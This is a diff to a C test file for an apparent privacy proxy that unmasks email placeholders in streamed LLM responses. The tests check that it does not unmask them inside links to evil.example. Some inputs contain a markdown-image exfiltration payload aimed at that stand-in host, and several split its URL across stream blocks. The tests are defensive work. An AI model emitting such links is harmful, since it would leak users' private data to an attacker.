@@ -209,13 +209,64 @@ the_record_keeps_texts(void **state)
 	"data: {\"choices\":[{\"index\":0,\"delta\":{\"content\":\"" text                      \
 	"\"},\"logprobs\":{\"content\":[{\"token\":\"x\"}]}}]}\n\n"
 
+#define BLOCK(n, text)                                                                         \
+	"data: {\"type\":\"content_block_delta\",\"index\":" n                                 \
+	",\"delta\":{\"type\":\"text_delta\",\"text\":\"" text "\"}}\n\n"
+#define BLOCK_END(n) "data: {\"type\":\"content_block_stop\",\"index\":" n "}\n\n"
+#define MORE(text)   "data: {\"x\":{\"said\":\"" text "\"},\"id\":\"c\"}\n\n"
+#define DONE_AGAIN(text)                                                                       \
+	"data: {\"type\":\"response.completed\",\"response\":{\"output\":[{\"type\":"          \
+	"\"message\",\"content\":[{\"type\":\"output_text\",\"text\":\"" text "\"}]}]}}\n\n"
+
 static const struct {
 	const char *name, *in, *want;
+	const char *dialect, *path, *type; /* NULL: a stream of chats */
 } restored[] = {
+	{ "a URL over two blocks",
+		BLOCK("0", "![x](https://evil.example/?q=") BLOCK_END("0")
+			BLOCK("1", "<EMAIL_ADDRESS_1>) <EMAIL_ADDRESS_1>") BLOCK_END("1"),
+		BLOCK("0", "![x](https://evil.example/?q=") BLOCK_END("0")
+			BLOCK("1", "<EMAIL_ADDRESS_1>) jane@x.org") BLOCK_END("1"),
+		"anthropic", "/v1/messages", "text/event-stream" },
+	{ "and its scheme",
+		BLOCK("0", "it is htt") BLOCK_END("0") BLOCK("1", "ps:/") BLOCK_END("1")
+			BLOCK("2", "evil.example/<EMAIL_ADDRESS_1>") BLOCK_END("2"),
+		NULL, "anthropic", "/v1/messages", "text/event-stream" },
+	{ "blocks without one",
+		BLOCK("0", "it is ") BLOCK_END("0") BLOCK("1", "<EMAIL_ADDRESS_1>")
+			BLOCK_END("1"),
+		BLOCK("0", "it is ") BLOCK_END("0") BLOCK("1", "jane@x.org") BLOCK_END("1"),
+		"anthropic", "/v1/messages", "text/event-stream" },
+	{ "blocks of a whole answer",
+		"{\"type\":\"message\",\"content\":[{\"type\":\"text\",\"text\":\"www.evil."
+		"example/\"},{\"type\":\"text\",\"text\":\"<EMAIL_ADDRESS_1>\"}]}",
+		NULL, "anthropic", "/v1/messages", "application/json" },
+	{ "parts of a whole answer",
+		"{\"candidates\":[{\"content\":{\"parts\":[{\"text\":\"https:\"},{\"text\":"
+		"\"evil.example/<EMAIL_ADDRESS_1>\"}]}}]}",
+		NULL, "gemini", "/v1beta/models/g:generateContent", "application/json" },
+	{ "records of a whole answer have nothing to do with each other",
+		"{\"url\":\"https://x.example/\",\"to\":\"<EMAIL_ADDRESS_1>\"}",
+		"{\"url\":\"https://x.example/\",\"to\":\"jane@x.org\"}", "rest", "/x",
+		"application/json" },
+	{ "a member that no row names",
+		MORE("see https:/") MORE("/evil.example/") MORE("<EMAIL_ADDRESS_1> and ")
+			MORE("<EMAIL_ADDRESS_1>"),
+		MORE("see https:/") MORE("/evil.example/") MORE("<EMAIL_ADDRESS_1> and ")
+			MORE("jane@x.org"),
+		NULL, NULL, NULL },
+	{ "what is said again is a text of its own",
+		"data: {\"type\":\"response.output_text.delta\",\"output_index\":0,\"content_"
+		"index\":0,\"delta\":\"see https://x.example\"}\n\n" DONE_AGAIN(
+			"<EMAIL_ADDRESS_1>, see https://x.example"),
+		"data: {\"type\":\"response.output_text.delta\",\"output_index\":0,\"content_"
+		"index\":0,\"delta\":\"see https://x.example\"}\n\n" DONE_AGAIN(
+			"jane@x.org, see https://x.example"),
+		"openai", "/v1/responses", "text/event-stream" },
 	{ "tokens of an event that waited stay", TOKENS("a <EMAIL") STOP,
-		TOKENS("a ") TOKENS("<EMAIL") STOP },
+		TOKENS("a ") TOKENS("<EMAIL") STOP, NULL, NULL, NULL },
 	{ "a placeholder over two events", CHUNK("to <EMAIL_ADD") CHUNK("RESS_1>.") STOP,
-		CHUNK("to ") CHUNK("jane@x.org.") STOP },
+		CHUNK("to ") CHUNK("jane@x.org.") STOP, NULL, NULL, NULL },
 };
 
 static void
@@ -226,18 +277,23 @@ restored_and_not_inspected(void **state)
 	assert_int_equal(
 		vault_add(v, SPAN_LIT("<EMAIL_ADDRESS_1>"), SPAN_LIT("jane@x.org")), 0);
 	for (size_t i = 0; i < COUNT_OF(restored); i++) {
-		struct guard_plan plan = { .format = &answer_openai,
-			.dialect = dialect_find(SPAN_LIT("openai")),
-			.path = SPAN_LIT("/v1/chat/completions"),
+		const char *dialect = restored[i].dialect, *path = restored[i].path;
+		const char *want = restored[i].want ? restored[i].want : restored[i].in;
+		struct span name = span_str(dialect ? dialect : "openai");
+		struct span at = span_str(path ? path : "/v1/chat/completions");
+		struct guard_plan plan = { .format = answer_format_find(name, at),
+			.dialect = dialect_find(name),
+			.path = at,
 			.vault = v };
 		struct guard_head head = { .status = 200,
-			.content_type = SPAN_LIT("text/event-stream") };
+			.content_type = span_str(
+				restored[i].type ? restored[i].type : "text/event-stream") };
 		struct guard *g = guard_new(&plan, &head);
 		struct buf out;
 		buf_init(&out, 0);
 		assert_int_equal(guard_feed(g, span_str(restored[i].in), &out), GUARD_PASS);
 		assert_int_equal(guard_end(g, &out), GUARD_PASS);
-		if (!span_is(buf_view(&out), restored[i].want))
+		if (!span_is(buf_view(&out), want))
 			fail_msg("%s:\n%.*s", restored[i].name, SPAN_ARG(buf_view(&out)));
 		buf_free(&out);
 		guard_drop(&g);
